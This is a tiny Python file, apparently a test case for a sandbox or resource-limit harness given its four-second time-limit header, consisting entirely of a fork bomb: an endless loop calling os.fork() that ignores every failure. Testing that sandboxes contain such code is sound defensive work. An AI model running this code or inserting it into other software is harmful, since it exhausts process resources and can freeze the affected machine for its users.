# time limit: 4 s
"""Every process forks for ever and shrugs off failures to fork."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
